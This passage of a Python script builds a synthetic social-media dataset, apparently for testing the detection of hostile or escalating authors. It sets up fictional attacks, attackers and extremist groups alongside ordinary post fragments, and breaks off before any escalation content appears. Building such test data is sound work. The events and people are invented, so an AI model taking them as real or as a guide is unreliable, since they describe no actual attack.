#!/usr/bin/env python3
"""Generate the synthetic demo dataset: ``posts.jsonl`` and ``hostile.jsonl``.

Everything here is invented: people, handles, towns, venues, attacks, attackers and groups.
Python 3.11 standard library only, one fixed seed, so the output is byte-for-byte the same on
every run (``python3 data/demo/generate.py``). See README.md next to this file for the data
card and the planted cases.

How it works, in one breath: build a cast of authors (home city, time zone with its daylight
saving rule, interests, writing style, friends), give each a posting schedule drawn from a
diurnal curve in *their* local time, write each post by combining hand-written fragments with
slots filled from the author's own life (their dog, their team, their street), let friends
reply to each other shortly after, then run the escalation scripts for the planted authors
on top. A self-check at the end re-reads the files and asserts the invariants.
"""

from __future__ import annotations

import datetime as dt
import json
import math
import random
import re
from collections import Counter, defaultdict
from dataclasses import dataclass, field
from email.utils import parsedate_to_datetime
from pathlib import Path

SEED = 20260514
HERE = Path(__file__).resolve().parent
UTC = dt.timezone.utc
START = dt.datetime(2026, 5, 1, tzinfo=UTC)
END = dt.datetime(2026, 11, 16, tzinfo=UTC)  # exclusive: the last day is 2026-11-15 (UTC)

rng = random.Random(SEED)

# --------------------------------------------------------------------------------------------
# The world: regions, zones, cities
# --------------------------------------------------------------------------------------------

# Daylight saving in 2026 as the real rules have it. The window starts after both spring
# changes, so only the autumn change matters: EU on 25 Oct 01:00 UTC, US on 1 Nov 02:00 local.
EU_DST_END = dt.datetime(2026, 10, 25, 1, 0, tzinfo=UTC)


@dataclass(frozen=True)
class Zone:
    name: str
    std: float  # standard offset, hours
    dst: str | None  # "us", "eu" or None

    def offset_at(self, utc: dt.datetime) -> float:
        if self.dst == "eu" and utc < EU_DST_END:
            return self.std + 1
        if self.dst == "us":
            end = dt.datetime(2026, 11, 1, 2, 0, tzinfo=UTC) - dt.timedelta(hours=self.std + 1)
            if utc < end:
                return self.std + 1
        return self.std

    def to_utc(self, local_naive: dt.datetime) -> dt.datetime:
        guess_off = self.std + (1 if self.dst else 0)
        utc = (local_naive - dt.timedelta(hours=guess_off)).replace(tzinfo=UTC)
        if self.offset_at(utc) != guess_off:
            utc = (local_naive - dt.timedelta(hours=self.std)).replace(tzinfo=UTC)
        return utc

    def local(self, utc: dt.datetime) -> dt.datetime:
        off = self.offset_at(utc)
        return utc.astimezone(dt.timezone(dt.timedelta(hours=off)))


Z_LA = Zone("America/Los_Angeles", -8, "us")
Z_CHI = Zone("America/Chicago", -6, "us")
Z_NY = Zone("America/New_York", -5, "us")
Z_SP = Zone("America/Sao_Paulo", -3, None)
Z_LON = Zone("Europe/London", 0, "eu")
Z_BER = Zone("Europe/Berlin", 1, "eu")
Z_ATH = Zone("Europe/Athens", 2, "eu")
Z_IST = Zone("Europe/Istanbul", 3, None)
Z_KOL = Zone("Asia/Kolkata", 5.5, None)
Z_TOK = Zone("Asia/Tokyo", 9, None)

# region: zone, dialect, currency, weight, cities (name, lat, lon, home language)
REGIONS = {
    "us_west": (Z_LA, "us", "$", 0.14, [("Seattle", 47.61, -122.33, "en"), ("Portland", 45.52, -122.68, "en"),
                                         ("San Diego", 32.72, -117.16, "en"), ("Sacramento", 38.58, -121.49, "en"),
                                         ("Oakland", 37.80, -122.27, "en"), ("Los Angeles", 34.05, -118.24, "en")]),
    "us_central": (Z_CHI, "us", "$", 0.10, [("Chicago", 41.88, -87.63, "en"), ("Minneapolis", 44.98, -93.27, "en"),
                                            ("Dallas", 32.78, -96.80, "en"), ("Kansas City", 39.10, -94.58, "en"),
                                            ("Tulsa", 36.15, -95.99, "en"), ("Milwaukee", 43.04, -87.91, "en")]),
    "us_east": (Z_NY, "us", "$", 0.19, [("Boston", 42.36, -71.06, "en"), ("Philadelphia", 39.95, -75.17, "en"),
                                        ("Atlanta", 33.75, -84.39, "en"), ("Pittsburgh", 40.44, -79.99, "en"),
                                        ("Toronto", 43.65, -79.38, "en"), ("Baltimore", 39.29, -76.61, "en"),
                                        ("New York", 40.71, -74.01, "en")]),
    "br": (Z_SP, "us", "R$", 0.04, [("São Paulo", -23.55, -46.63, "pt"), ("Rio de Janeiro", -22.91, -43.17, "pt"),
                                   ("Curitiba", -25.43, -49.27, "pt")]),
    "uk": (Z_LON, "uk", "£", 0.18, [("Manchester", 53.48, -2.24, "en"), ("Leeds", 53.80, -1.55, "en"),
                                   ("Glasgow", 55.86, -4.25, "en"), ("Bristol", 51.45, -2.59, "en"),
                                   ("London", 51.51, -0.13, "en"), ("Dublin", 53.35, -6.26, "en"),
                                   ("Cardiff", 51.48, -3.18, "en")]),
    "cet": (Z_BER, "uk", "€", 0.14, [("Berlin", 52.52, 13.40, "de"), ("Amsterdam", 52.37, 4.90, "en"),
                                    ("Paris", 48.86, 2.35, "fr"), ("Madrid", 40.42, -3.70, "es"),
                                    ("Vienna", 48.21, 16.37, "de"), ("Stockholm", 59.33, 18.07, "en"),
                                    ("Munich", 48.14, 11.58, "de")]),
    "eet": (Z_ATH, "uk", "€", 0.05, [("Athens", 37.98, 23.73, "en"), ("Helsinki", 60.17, 24.94, "en"),
                                    ("Bucharest", 44.43, 26.10, "en"), ("Kyiv", 50.45, 30.52, "en")]),
    "tr": (Z_IST, "uk", "₺", 0.04, [("Istanbul", 41.01, 28.98, "tr"), ("Nairobi", -1.29, 36.82, "en")]),
    "in": (Z_KOL, "uk", "₹", 0.08, [("Mumbai", 19.08, 72.88, "en"), ("Bengaluru", 12.97, 77.59, "en"),
                                   ("Delhi", 28.61, 77.21, "en"), ("Pune", 18.52, 73.86, "en"),
                                   ("Hyderabad", 17.39, 78.49, "en")]),
    "jp": (Z_TOK, "us", "¥", 0.04, [("Tokyo", 35.68, 139.69, "ja"), ("Osaka", 34.69, 135.50, "ja"),
                                   ("Seoul", 37.57, 126.98, "en")]),
}

FIRST = {
    "us": ["Jess", "Mike", "Ashley", "Tyler", "Brittany", "Josh", "Kayla", "Derek", "Amanda", "Chris", "Lauren",
           "Marcus", "Jasmine", "Kevin", "Rachel", "Trevor", "Danielle", "Andre", "Shannon", "Luis", "Maria", "Nate",
           "Olivia", "Zach", "Hannah", "DeShawn", "Emily", "Carlos", "Brianna", "Ryan", "Tasha", "Sam", "Alex",
           "Jordan", "Kim", "Patrick", "Becca", "Dom", "Gina", "Tony", "Keisha", "Cody", "Erin", "Dani", "Vince"],
    "uk": ["Ollie", "Chloe", "Jack", "Sophie", "Harry", "Amy", "Callum", "Gemma", "Liam", "Niamh", "Ross", "Hayley",
           "Tom", "Becky", "Darren", "Kirsty", "Rhys", "Siobhan", "Jamie", "Aoife", "Kieran", "Lucy", "Dan", "Holly",
           "Ciaran", "Fiona", "Amir", "Zara", "Owen", "Megs", "Stu", "Bex"],
    "cet": ["Lukas", "Anna", "Jonas", "Lea", "Felix", "Marie", "Pieter", "Sanne", "Lucas", "Camille", "Javier",
            "Lucía", "Elin", "Oskar", "Sofia", "Matteo", "Hugo", "Inès", "Max", "Greta", "Daan", "Noor", "Clara"],
    "eet": ["Nikos", "Eleni", "Aino", "Mikko", "Andrei", "Ioana", "Oksana", "Taras", "Dimitra", "Kostas", "Elina"],
    "tr": ["Elif", "Emre", "Zeynep", "Can", "Burak", "Aylin", "Wanjiru", "Kamau", "Achieng", "Otieno"],
    "in": ["Priya", "Arjun", "Rahul", "Ananya", "Vikram", "Sneha", "Rohan", "Kavya", "Aditya", "Neha", "Siddharth",
           "Ishaan", "Pooja", "Karthik", "Meera", "Varun"],
    "jp": ["Yuki", "Haruto", "Sakura", "Ren", "Aoi", "Daiki", "Mei", "Jisoo", "Minho", "Hana"],
    "br": ["Thiago", "Larissa", "Lucas", "Camila", "Rafael", "Beatriz", "Gabriel", "Juliana"],
}
LAST = {
    "us": ["Miller", "Johnson", "Garcia", "Nguyen", "Brooks", "Patel", "Rivera", "Kowalski", "O'Neil", "Washington",
           "Chen", "Murphy", "Delgado", "Price", "Hughes", "Reed", "Foster", "Castillo", "Simmons", "Park", "Bennett",
           "Alvarez", "Coleman", "Fischer", "Grant"],
    "uk": ["Walsh", "Taylor", "Evans", "Byrne", "Hughes", "Clarke", "Murray", "Shaw", "Doyle", "Patel", "Khan",
           "Wright", "Lloyd", "McLeod", "Fraser", "Kelly", "Pearce", "Jones", "Ahmed", "Gallagher", "Hussain"],
    "cet": ["Schmidt", "Müller", "de Vries", "Jansen", "Dubois", "Martin", "García", "López", "Lindqvist", "Berg",
            "Weber", "Fischer", "Rossi", "Moreau", "Bakker", "Novak"],
    "eet": ["Papadopoulos", "Virtanen", "Popescu", "Kovalenko", "Georgiou", "Korhonen", "Ionescu"],
    "tr": ["Yılmaz", "Demir", "Kaya", "Şahin", "Mwangi", "Njoroge", "Ochieng"],
    "in": ["Sharma", "Iyer", "Reddy", "Nair", "Gupta", "Menon", "Kulkarni", "Desai", "Rao", "Bose"],
    "jp": ["Tanaka", "Sato", "Suzuki", "Kim", "Park", "Yamamoto", "Ito", "Lee"],
    "br": ["Silva", "Santos", "Oliveira", "Souza", "Costa", "Pereira"],
}
NAME_GROUP = {"us_west": "us", "us_central": "us", "us_east": "us", "br": "br", "uk": "uk", "cet": "cet",
              "eet": "eet", "tr": "tr", "in": "in", "jp": "jp"}

ADJ = ["tired", "soggy", "cosmic", "quiet", "salty", "sleepy", "grumpy", "lucky", "rusty", "tiny", "chaotic",
       "lazy", "spicy", "midnight", "feral", "polite", "anxious", "retired", "caffeinated", "wandering", "sunny",
       "rainy", "northern", "vintage", "analog", "lowkey", "crispy", "haunted", "moody", "unbothered", "oddly"]
NOUN = ["librarian", "waffle", "pigeon", "otter", "kettle", "badger", "toaster", "moth", "raccoon", "gardener",
        "cyclist", "bagel", "cactus", "lantern", "pixel", "goblin", "noodle", "walrus", "fern", "biscuit",
        "sparrow", "teapot", "robot", "wizard", "dad", "nerd", "runner", "gremlin", "potato", "heron", "possum",
        "crumpet", "dumpling", "beetle", "comet", "tortoise"]

# --------------------------------------------------------------------------------------------
# Fictional places and events. None of these exist; any resemblance is coincidence.
# --------------------------------------------------------------------------------------------

# Past attacks the fixated authors admire and everyone else condemns.
ATTACKS = {
    "marlow": dict(ref="the Marlow attack", long="the 2019 Marlow Plaza attack", place="Marlow Plaza",
                   year="2019", attacker="Ansel Dray", last="Dray", victims="eleven", town="Harbor City"),
    "halden": dict(ref="Halden Street", long="the Halden Street shooting", place="Halden Street",
                   year="2022", attacker="Corwin Vale", last="Vale", victims="nine", town="Kellerton"),
    "pinecrest": dict(ref="Pinecrest", long="the Pinecrest Academy shooting", place="Pinecrest Academy",
                      year="2021", attacker="Toby Garrow", last="Garrow", victims="seven", town="Norwood Falls"),
}
EXTREMIST_GROUPS = ["the Iron Vanguard", "the Ninth Column", "the Ashen Banner"]

# Towns the news feeds cover, with their streets and venues.
TOWNS = {
    "Kellerton": dict(streets=["Halden Street", "Maple Avenue", "Grand Street", "Fulton Road", "Pike Street"],
                      venues=["Kellerton Arena", "the Grand Arcade", "the Central Library", "Union Station"],
                      schools=["Kellerton Central High", "Lincoln Middle School"], civic="Kellerton City Hall",
                      bars=["O'Malley's", "the Rail Yard bar"]),
    "Brayford": dict(streets=["Station Road", "Mill Lane", "King's Parade", "Canal Street", "Victoria Road"],
                     venues=["the Riverside shopping centre", "Brayford Corn Exchange", "the Leisure Centre"],
                     schools=["Eastfield School", "St Anne's Academy"], civic="Brayford Town Hall",
                     bars=["the Red Lion", "the Crown & Anchor"]),
    "Norwood Falls": dict(streets=["Elm Street", "Route 9", "Cedar Avenue", "Main Street"],
                          venues=["the Norwood Falls Civic Center", "Lakeside Mall", "the county fairgrounds"],
                          schools=["Norwood High", "Pinecrest Academy"], civic="the Norwood County courthouse",
                          bars=["Rusty's Tap", "the Lodge"]),
    "Harbor City": dict(streets=["Harbor Road", "5th Street", "Ocean Avenue", "Mission Boulevard"],
                        venues=["Marlow Plaza", "the Harbor City Convention Center", "Pier 9"],
                        schools=["Harbor City High", "Bayview Elementary"], civic="Harbor City Hall",
                        bars=["the Anchor", "Salt & Lime"]),
}

# --------------------------------------------------------------------------------------------
# Slot pools: {name} in a fragment is filled from the author's context first, then from here.
# --------------------------------------------------------------------------------------------

POOLS: dict[str, list[str]] = {
    "dish": ["lasagna", "chicken curry", "pad thai", "shakshuka", "mac and cheese", "banana bread", "pho", "dal",
             "paella", "bolognese", "fish tacos", "ramen", "mushroom risotto", "chili", "pierogi", "tikka masala",
             "okonomiyaki", "gnocchi", "jollof rice", "falafel wraps", "carbonara", "a full roast", "dumplings",
             "cinnamon rolls", "bibimbap", "chicken pot pie", "aloo paratha", "french onion soup", "enchiladas"],
    "drink": ["coffee", "flat white", "iced latte", "tea", "matcha", "cold brew", "chai", "espresso", "oat latte",
              "cortado", "Diet Coke"],
    "snack": ["viral chocolate bar", "pistachio croissant", "spicy ramen flavour", "cronut", "hot honey crisps",
              "protein cookie", "mochi donut", "dubai chocolate"],
    "cafe": ["Bean There", "Grindhouse", "the Daily Grind", "Little Owl Coffee", "Copper Kettle", "Drip & Drizzle",
             "Two Sugars", "Ground Control", "Ritual Roasters", "Half Moon Cafe"],
    "cuisine": ["Ethiopian", "Sichuan", "Georgian", "Peruvian", "Lebanese", "Vietnamese", "Nepali", "Korean BBQ",
                "Sri Lankan", "taco"],
    "street": ["Maple Avenue", "Station Road", "Elm Street", "Canal Street", "Market Street", "Church Lane",
               "Harbor Road", "5th Street", "Queen Street", "Mill Lane", "Park Row", "Victoria Road", "Oak Street"],
    "hood": ["the east side", "downtown", "Northgate", "the old town", "Southbank", "Hillcrest", "the Heights",
             "Westend", "Little Italy", "the harbour"],
    "landmark": ["the park", "the station", "the old library", "the pier", "the market square", "the cathedral",
                 "the stadium", "the bus depot", "the old mill", "the riverside walk"],
    "weather_cond": ["Rain", "Grey skies", "Drizzle", "Fog", "Sideways rain", "Hail", "Wind", "Thick fog",
                     "Heavy rain"],
    "show": ["The Long Quiet", "Harbor Lights", "Dead Reckoning", "Copper & Vine", "The Ninth Floor",
             "Starlight Motel", "Bad Weather", "Kingsbridge", "Salt Flats", "The Orchard House", "Night Shift"],
    "book": ["The Salt Road", "A Field Guide to Small Hours", "Lanterns Over Kyoto", "The Glass Orchard",
             "Midnight at the Laundromat", "The Cartographer's Daughter", "Tides of Quiet", "Small Gods of Ohio"],
    "band": ["Velvet Static", "June Harbor", "The Lowlight Parade", "MARA", "Kid Comet", "Neon Orchard",
             "Paper Wolves", "Saint Juniper", "The Hollow Bells", "Delta Sleepwalk", "Glass Animals Tribute Act"],
    "song": ["Glasshouse", "Slow Burn", "Paper Planes and Gasoline", "Midnight Bus", "Cherry Static",
             "Northern Line", "Ghost in the Radio", "Sundays at Yours", "Everything Is Weather"],
    "lyric": ["load the gun and let it ring", "we set the whole town on fire tonight",
              "I'll shoot you down like a falling star", "kill the lights and dance with me",
              "my heart's a loaded weapon and you've got the key", "we'll burn it down and start again",
              "headshot to the heart, baby", "dynamite in the back seat, you and me",
              "ride or die till the wheels fall off", "the night we robbed the moon",
              "armed with nothing but a broken guitar", "ready, aim, fall in love",
              "bury me in the city lights", "I'd go to war for you, darling", "murder on the dancefloor of my mind",
              "you knocked me dead on Sunday"],
    "app": ["banking app", "Spotify", "WhatsApp", "bus app", "Outlook", "weather app", "Teams", "Google Maps"],
    "gadget": ["my old iPhone 12", "a 2019 laptop", "the original Switch", "my Pixel 6", "a PS4",
               "my ancient Kindle"],
    "lang_prog": ["Python", "Rust", "Go", "JavaScript", "PHP", "Java", "TypeScript", "C++", "Kotlin", "Bash"],
    "month": ["June", "July", "August", "September", "October", "November", "the spring"],
    "weekday": ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"],
    "player": ["Okafor", "Lindqvist", "Duarte", "Kowalczyk", "Adeyemi", "Moreau", "Halloran", "Nakamura",
               "Bright", "Esposito"],
    "travel_city": ["Lisbon", "Tokyo", "Edinburgh", "Mexico City", "Rome", "Bangkok", "Reykjavik", "Montreal",
                    "Seoul", "Istanbul", "Prague", "Cape Town", "Hanoi", "Copenhagen"],
    "civic_project": ["bike lanes", "stadium deal", "library budget", "bus depot", "housing plan",
                      "park redevelopment", "parking changes", "new tram line"],
    "blunder": ["the coffee stain on the quarterly report", "what I did to the company van",
                "the email I just sent to all staff", "the budget spreadsheet", "the client's name I got wrong twice",
                "the invoice I forgot to send", "the slide deck I haven't started"],
    "thing": ["her birthday", "to pick up the dry cleaning", "the bins", "our anniversary dinner booking",
              "to feed the cat", "to record the match", "the car keys"],
    "fish": ["bass", "trout", "pike", "catfish", "walleye", "perch"],
    "lake": ["the lake", "the reservoir", "the river bend", "Miller's pond"],
    "peak": ["the ridge trail", "the big hill behind town", "the falls loop", "the summit path"],
    "fps": ["Hollowpoint", "Valorant", "CS2", "Apex", "Hollowpoint", "Warzone", "Starfall Tactics"],
    "map": ["Dust", "the docks map", "Harbor", "Foundry", "the bridge map", "Ascent", "Refinery"],
    "cozygame": ["Stardew Valley", "Bramble Quest", "Animal Crossing", "Bramble Quest", "Dorfromantik",
                 "Unpacking"],
    "score": ["2-1", "3-1", "1-0", "3-2", "2-0", "4-2"],
    "big_score": ["5-0", "6-1", "4-0", "5-1", "7-0"],
    "lose_score": ["0-4", "1-5", "0-3", "2-6"],
    "time_run": ["52:14", "27:48", "31:05", "24:59", "58:30", "29:41", "1:58:02"],
    "time": ["6am", "7", "half 7", "9am", "noon", "lunch", "8:15"],
    "pet_kind": ["dog", "cat", "puppy", "kitten", "rescue dog"],
    "bar": ["O'Malley's", "the Anchor", "Rusty's Tap", "the Red Lion", "that bar on 5th"],
    "big_n": ["12", "37", "48", "140", "212", "300", "19", "61"],
}

# --------------------------------------------------------------------------------------------
# Ordinary topics: core fragments, follow-ups and hashtags. Fragments carry no final punctuation
# unless it is part of the voice (?, !, ...); the joiner supplies the rest per author.
# --------------------------------------------------------------------------------------------

TOPICS: dict[str, dict[str, list[str]]] = {
    "daily": dict(core=[
        "Alarm didn't go off, made it to work with 2 minutes to spare and zero dignity",
        "{coworker} brought donuts to the office again, honestly the only reason I come in",
        "third meeting today that could have been an email",
        "working from home means I've had the same mug of {drink} next to me since {time}",
        "Laundry: done. Dishes: done. Everything else: tomorrow's problem",
        "why does every Tuesday feel like a Monday in a fake moustache",
        "finally cleaned out the fridge and found things that predate the pandemic",
        "my whole personality this week is being tired",
        "someone in my building has been practicing the trumpet for 3 weeks and they're getting worse",
        "{person} just texted me 'we need to talk' and then nothing for an hour. love that for me",
        "new job starts {weekday}, nervous but excited",
        "booked a dentist appointment like an actual adult",
        "it's only {today} and I'm already tired",
        "Out of milk. Out of bread. Out of patience",
        "trying to fix a squeaky door with youtube tutorials",
        "the printer at work has developed a personality and it hates me specifically",
        "Slept 9 hours and somehow woke up more tired",
        "IKEA trip planned for 'just a couple of things'. we all know how this ends",
        "Bus was 25 mins late and then two came at once",
        "{person} is visiting this weekend so the {flat} is getting its annual deep clean",
        "Parallel parked on the first try in front of an audience. peaked today",
        "did my taxes early for once and I don't know what to do with this feeling",
        "landlord finally fixed the heating after 3 emails and a phone call",
        "spent my lunch break staring at a wall and honestly it was great",
        "grocery bill was {price} and I bought like six things??",
        "performance review went fine!! I was stressing over nothing",
        "the wifi was out for an hour and I had to talk to my family. they seem nice",
        "got a parking ticket outside my own {flat}",
        "accidentally replied-all to the whole department with a thumbs up",
        "Sunday scaries kicking in early this week",
        "my neighbour waved at me and I waved back and it turns out he was waving at someone behind me",
        "put a load of whites in with one red sock. everything is pink. I am pink",
        "the 'quick 5 minute call' is now in its second hour",
        "cancelled plans to stay in and do nothing. best decision of the week",
        "my {person} has started sending me articles about sleep hygiene. subtle",
        "new standing desk arrived, I have stood for 11 minutes total",
        "finally hung the shelves. they're only slightly wonky",
        "someone microwaved fish in the office kitchen at 10am. on a {today}",
        "first day back after holiday and I've forgotten all my passwords",
        "hoovered, mopped, lit a candle. I'm basically a lifestyle influencer now",
    ], extra=[
        "anyway, coffee time", "the rest of the day can only go up from here",
        "tomorrow I'm going to be a functional adult. probably", "nobody warned me adulthood was mostly admin",
        "send snacks", "no further questions", "I need a nap and a holiday, in that order",
        "small victories count", "still in my pyjamas btw", "and it's not even noon",
        "how is it only {today}", "pray for me", "living the dream",
    ], tags=["WFH", "adulting", "worklife"]),

    "food": dict(core=[
        "Made {dish} from scratch tonight and honestly? not bad for a first try",
        "the new place on {street} does a flat white that changed my life",
        "meal prep sunday: 5 boxes of {dish}. by wednesday I'll hate it",
        "{person} made {dish} and I had three helpings, no regrets",
        "What's everyone having for dinner? I'm thinking {dish} but I'm too lazy",
        "tried the {snack} everyone's been talking about. overrated tbh",
        "Sourdough attempt number {n}: it's a brick, but it's MY brick",
        "accidentally made enough {dish} to feed a small village",
        "the guy at {cafe} remembered my order today and I feel seen",
        "third {drink} of the day, productivity through the roof, hands slightly shaking",
        "Farmers market haul: tomatoes, peaches, and one very judgmental sunflower",
        "is it acceptable to eat cereal for dinner three nights in a row. asking for me",
        "burnt the garlic bread. the smoke alarm has opinions",
        "found a tiny {cuisine} place near {hood} and it's incredible",
        "trying to cut back on {drink}, day {n}. going great. fine. totally fine",
        "pineapple on pizza debate is back in the group chat and I'm staying out of it",
        "grandma's {dish} recipe finally cracked. it was the butter. it's always the butter",
        "lunch today: a sad desk salad and the memory of yesterday's burrito",
        "if you haven't had {dish} with a fried egg on top, what are you doing",
        "waited 70 minutes for takeaway, got someone else's curry, ate it anyway",
        "homemade ramen for the first time, the broth took 8 hours and was gone in 6 minutes",
        "made iced coffee at home and saved {price}, basically a financial genius now",
        "apparently I'm the only person in the office who likes olives",
        "bought a fancy knife set and now I chop onions for fun",
        "the bakery near {landmark} had ONE cinnamon bun left and it was mine",
        "air fryer has changed my life and I will not be taking questions",
        "tried to make {dish} like the restaurant does. it did not go like the restaurant does",
        "hot chocolate season has officially started in this house",
        "{cafe} put a leaf in my latte and I didn't want to drink it",
        "first barbecue of the year and of course it rained",
        "ate an entire bag of crisps while waiting for dinner to cook. I have no regrets and no appetite",
    ], extra=[
        "recipe below if anyone wants it", "10/10 would eat again", "my kitchen looks like a crime scene",
        "worth every calorie", "the dishes can wait", "chef's kiss", "no I will not be sharing",
        "ask me how I know", "doing it again next week", "my cardiologist doesn't follow me right?",
        "the smell alone", "leftovers for days",
    ], tags=["coffee", "foodie", "cooking", "baking", "sourdough", "brunch", "homecooking", "FoodieFriday"]),

    "sport": dict(core=[
        "What a match. {team} came back from 2 down and I've lost my voice",
        "{team} beat {rival} {score} and the pub went absolutely mental",
        "ref needs his eyes tested, that was never a penalty",
        "season ticket renewed. the hope is back. the pain will follow",
        "another late equaliser conceded, this club will be the end of me",
        "first 10k done, {time_run}, legs are jelly",
        "signed up for the half marathon in {month} before I could talk myself out of it",
        "watching the game at {person}'s place, snacks are elite, defending is not",
        "transfer rumours are melting my brain",
        "{team} fans, how are we feeling about the new manager",
        "couch to 5k week {n}: still alive",
        "pickup basketball this morning, airballed twice, hit one three, retiring on a high",
        "cycled to work every day this week and my thighs are furious",
        "that save in the 89th minute. I've watched it 40 times",
        "derby day. can't eat, can't think",
        "our sunday league team finally won a game and we're acting like we won the cup",
        "rain delay again. baseball is just waiting with extra steps",
        "new PB at parkrun!! {time_run}",
        "fantasy team is in shambles, started three injured players like a genius",
        "{team} lose again. I'm fine. I'm totally fine",
        "{player} missed an open goal. OPEN. GOAL",
        "gym at 6am was a mistake, but a productive mistake",
        "nothing beats a floodlit match on a cold night",
        "the away end was rocking tonight, best atmosphere in years",
        "5-a-side tonight, I'm 34 and I play like I'm 70",
        "{team} kit for next season leaked and it's hideous. I'll buy it anyway",
        "watched the highlights three times, still not over that free kick",
        "how is {player} not starting?? genuinely asking",
        "long run in the rain this morning, felt like a movie montage",
        "swapped my boots for trail shoes and I'm never going back",
    ], extra=[
        "we go again", "never in doubt (it was always in doubt)", "my heart can't take this",
        "see you at the next one", "season's not over yet", "ice bath time", "up the {team_short}",
        "what a time to be alive", "can't wait for {weekday}",
    ], tags=["matchday", "running", "parkrun", "football", "cycling", "FantasyFootball", "gym"]),

    "gaming": dict(core=[
        "'one more game' turned into 3am again. {game} has a hold on me",
        "finally beat that boss in {game} after {big_n} tries, I screamed",
        "who's on tonight? need 2 for ranked in {game}",
        "patch notes for {game} dropped and they nerfed my main. again",
        "my Steam backlog is {big_n} games and I just bought another one",
        "{game} is 60% off, do it, you won't regret it",
        "controller drift is ruining my life",
        "just hit Diamond in {game}!! took me all season",
        "lagging so bad tonight I was basically playing last week",
        "building a new PC this weekend, wish me luck and no static",
        "the soundtrack in {game} goes way harder than it needs to",
        "cozy game night: tea, blanket, {cozygame}",
        "100% completion in {game}. I need to go outside",
        "teammate rage-quit in round 2 and we still won. character building",
        "is {game} worth it at full price or should I wait for a sale",
        "streaming {game} tonight at 8, come hang",
        "servers down again. guess I'll touch grass",
        "speedrunning {cozygame} because I have no self control",
        "my little brother beat me at {game} and I'm not ready to talk about it",
        "bought a new headset, can finally hear footsteps. and my own breathing. not great",
        "the {game} community is either the nicest or the worst people I've ever met, no in between",
        "tried the new season of {game}, the map changes are actually good??",
        "spent two hours in the character creator and 10 minutes playing",
        "accidentally sold my best gear in {game}. I want to lie down",
        "the {cozygame} fishing minigame is the most stressful thing in my life rn",
        "friend group finally agreed on a game to play together. it only took 4 months",
    ], extra=[
        "gg", "gg no re", "skill issue honestly", "never playing again (I'll play tomorrow)", "clip in replies",
        "my K/D is crying", "sleep is for the weak", "worth it", "one more run",
    ], tags=["gaming", "PCgaming", "indiegames", "NintendoSwitch", "Twitch", "cozygames"]),

    "tech": dict(core=[
        "spent 3 hours debugging and it was a missing comma. I'm going to bed",
        "unpopular opinion: {lang_prog} is fine actually",
        "my laptop fan sounds like a jet engine and all I have open is a spreadsheet",
        "the {app} update moved every button I use. why",
        "switched to a mechanical keyboard and now I type just to hear it",
        "it works on my machine",
        "reminder to back up your stuff. ask me how I know",
        "new phone day! transferring 40GB of blurry cat photos",
        "shipped a feature on a friday. I live dangerously",
        "recruiter wants 5 years of experience in a framework that came out last year",
        "anyone else getting weird battery drain since the last update?",
        "self-hosting everything now. my electricity bill has questions",
        "rewrote it in {lang_prog}, now it's slower but it's cleaner",
        "git blame said it was me. it's always me",
        "password rules: 12 characters, a symbol, a hieroglyph and the blood of a goat",
        "tried the new AI code reviewer. it complimented my bug",
        "homelab update: a Raspberry Pi now runs my entire house and I'm a little scared",
        "code review comment: 'nit'. me: rewrites everything",
        "printer drivers in 2026 are still a nightmare",
        "learning {lang_prog} in the evenings, day {n} and I already love it",
        "our standup has become a sitdown has become a lie-down",
        "the intern fixed the bug I've been stuck on for a week. in 20 minutes",
        "closed 43 browser tabs and felt my soul get lighter",
        "converted my dad to a password manager. biggest win of the year",
        "why does every smart home device need its own app",
        "my terminal is now prettier than my flat and I regret nothing",
        "on-call this week, phone volume at max, sleeping with one eye open",
        "wrote a script to automate a 5 minute task. took me 4 hours. worth it",
    ], extra=[
        "send coffee", "the rubber duck earned its keep today", "ship it", "don't ask how long it took",
        "the logs don't lie", "TIL", "README updated, you're welcome", "rm -rf my patience",
    ], tags=["tech", "programming", "python", "linux", "selfhosted", "homelab", "100DaysOfCode", "devlife"]),

    "politics": dict(core=[
        "council meeting tonight on the {civic_project}, go and make your voice heard",
        "reminder: voter registration closes soon and it takes 5 minutes",
        "rent went up another 8%. how is anyone supposed to live here",
        "every election they promise to fix the potholes. the potholes remain",
        "the transit levy vote is going to be so close",
        "wrote to my rep about the library cuts and got a form letter back. cool",
        "both sides yelling past each other again. exhausting",
        "local elections matter more than people think, that's where the bins and buses get decided",
        "the debate last night was two guys interrupting each other for 90 minutes",
        "can we please fund schools before we fund another stadium",
        "another consultation on the {civic_project}. we've had four",
        "housing is a right not a luxury and I'll die on this hill",
        "town hall was heated tonight but at least people showed up",
        "the new parking charges are daylight robbery",
        "nurses are striking on {weekday} and honestly I'm with them",
        "canvassed for 3 hours today, my feet are done but it was worth it",
        "the council wants to cut the night buses. some of us work nights",
        "genuinely don't understand how anyone affords childcare",
        "unpopular opinion: more bike lanes would make the drivers happier too",
        "my landlord owns 14 flats and still asked me to fix the boiler myself",
    ], extra=[
        "call your councillor", "this matters", "rant over", "do better", "vote like it matters, because it does",
        "end of thread", "that's all",
    ], tags=["localpolitics", "vote", "housing", "transit", "council"]),

    "weather": dict(core=[
        "{weather_cond} again. {city} never disappoints",
        "it's 34 degrees and the office AC is broken. I am melting",
        "first frost this morning, scraped the car with a loyalty card",
        "thunderstorm rolling in, the dog is already under the bed",
        "sunny for exactly 11 minutes and then it hailed. classic",
        "forecast said 10% chance of rain and I got soaked to the bone",
        "heatwave day {n}, sleeping with a wet towel like a Victorian",
        "the fog this morning made the whole city look like a horror movie set",
        "weather app says 'feels like 41'. yeah it does",
        "perfect autumn day. crunchy leaves, cold nose, no notes",
        "umbrella turned inside out on the bridge, I've never felt so defeated",
        "humidity at 90% and so is my hair volume",
        "woke up to the most ridiculous sunrise over {city}",
        "it's that time of year when you need a coat in the morning and shorts by lunch",
        "the rain is so loud on the skylight I can't hear my own thoughts. bliss",
        "storm last night knocked the neighbour's bins all the way down the street",
        "golden hour over {city} today was unreal",
        "lightning show over the harbour tonight, stood on the balcony like a weirdo for an hour",
    ], extra=[
        "stay hydrated", "stay dry out there", "layers, people", "I love and hate this city",
        "send sunscreen", "summer where", "pics don't do it justice",
    ], tags=["weather", "heatwave", "autumn", "rain", "sunset"]),

    "pets": dict(core=[
        "{pet} learned to open the treat drawer. we are no longer in charge",
        "vet says {pet} needs to lose weight. {pet} disagrees strongly",
        "{pet} knocked my coffee off the desk while maintaining eye contact",
        "{pet} is {pet_age} today and still acts like a baby",
        "3am zoomies brought to you by {pet}",
        "tried to take a nice photo of {pet}, got 40 blurry ones and one masterpiece",
        "{pet} has claimed my side of the bed. I sleep on the edge now",
